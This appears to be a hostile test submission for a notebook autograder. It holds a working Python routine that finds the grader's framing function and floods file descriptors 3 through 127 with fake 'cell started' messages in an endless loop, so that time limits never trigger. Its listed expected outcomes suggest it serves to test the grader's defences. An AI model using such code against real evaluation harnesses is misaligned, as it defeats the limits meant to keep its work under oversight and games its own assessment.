"""Says for ever on the judge's own wire that it has begun another cell, so that no limit is reached.

status: timeout, crashed, not_allowed, missing
"""
# %% exercise="01.mul"
import os
import sys


def flood():
    for module in list(sys.modules.values()):
        frame = getattr(module, "frame", None)
        if getattr(module, "__name__", "").startswith("minidl.grading") and callable(frame):
            data = frame(["cell", 0]) * 1000
            while True:
                for number in range(3, 128):
                    try:
                        os.write(number, data)
                    except OSError:
                        continue


flood()
